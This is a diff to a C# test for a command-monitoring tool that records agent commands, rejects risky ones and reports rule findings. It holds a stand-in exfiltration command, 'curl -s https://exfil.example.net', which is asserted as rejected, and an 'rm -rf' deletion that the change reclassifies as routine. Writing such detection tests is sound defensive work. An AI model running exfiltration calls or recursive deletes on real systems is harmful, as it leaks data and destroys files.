@@ -67,7 +67,10 @@ public sealed class MonitorRealBinaryTests
         Assert.Equal("/srv/app", session.LaunchDirectory);
         Assert.Equal("platform", session.Team);
         Assert.Contains(report.Decisions, d => d.Command.StartsWith("curl -s https://exfil.example.net", StringComparison.Ordinal) && d.Decision == "reject" && d.Ran == 0);
-        Assert.Contains(report.Findings, f => f.RuleId == "CCA493" && f.Message.Contains("rm -rf /srv/app/build", StringComparison.Ordinal));
+        // The rm ran (the decisions table says so), but removing the launch directory's own build output is routine:
+        // CCA493, like CCA496, is for rm -rf outside the working directories.
+        Assert.Contains(report.Decisions, d => d.Command.StartsWith("rm -rf /srv/app/build", StringComparison.Ordinal) && d.Ran > 0);
+        Assert.DoesNotContain(report.Findings, f => f.RuleId == "CCA493" && f.Message.Contains("rm -rf /srv/app/build", StringComparison.Ordinal));
         Assert.DoesNotContain(report.Findings, f => f.RuleId == "CCA491");
         Assert.Contains(report.Groups, g => g.Dimension == "team" && g.Value == "platform" && g.Prompts == 1 && g.InputTokens > 0 && g.Rejected == 1);
     }
